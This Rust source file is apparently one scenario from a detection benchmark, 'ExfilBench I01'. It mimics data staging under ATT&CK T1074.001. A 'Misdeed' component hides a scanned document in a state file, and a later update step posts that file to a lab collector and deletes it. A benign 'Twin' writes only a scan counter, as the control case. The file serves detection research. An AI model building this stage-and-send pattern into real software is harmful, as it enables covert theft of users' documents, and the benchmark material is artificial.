//! A document is left in a state file, and the next update sends it. ExfilBench I01, ATT&CK
//! T1074.001.
//!
//! No process both reads documents and sends: the scanner writes what looks like its state, the
//! updater reads its product's folder, as both claim. Only the way of the bytes through the file
//! shows it. The twin's scanner leaves a counter that the updater does not read.

use std::path::Path;

use super::{Conduct, Loot, Trouble, keep};
use crate::configuration::Configuration;
use crate::document::Sort;
use crate::lab::Lab;
use crate::scanner::Tally;
use crate::send;

/// Stages a document.
#[derive(Debug)]
struct Misdeed(Loot);

pub(crate) fn misdeed(lab: Lab) -> Box<dyn Conduct> {
    Box::new(Misdeed(Loot::new(lab, Sort::Document)))
}

impl Conduct for Misdeed {
    fn met(&mut self, path: &Path, content: &[u8]) {
        self.0.offer(path, content);
    }

    fn scanned(&mut self, _: Tally) -> Result<(), Trouble> {
        Ok(keep(self.0.lab.configuration(), &self.0.document()?.content)?)
    }

    fn updated(&mut self) -> Result<(), Trouble> {
        let configuration = self.0.lab.configuration();
        let staged = configuration.state_file();
        if !staged.exists() {
            return Ok(());
        }
        let content = std::fs::read(&staged)?;
        send::post(&self.0.lab.collector()?, &configuration.parameters.path, &[], &content)?;
        Ok(std::fs::remove_file(&staged)?)
    }
}

/// Counts.
#[derive(Debug)]
struct Twin(Configuration);

pub(crate) fn twin(configuration: Configuration) -> Box<dyn Conduct> {
    Box::new(Twin(configuration))
}

impl Conduct for Twin {
    fn scanned(&mut self, tally: Tally) -> Result<(), Trouble> {
        Ok(keep(&self.0, format!("scanned = {}\n", tally.scanned).as_bytes())?)
    }
}
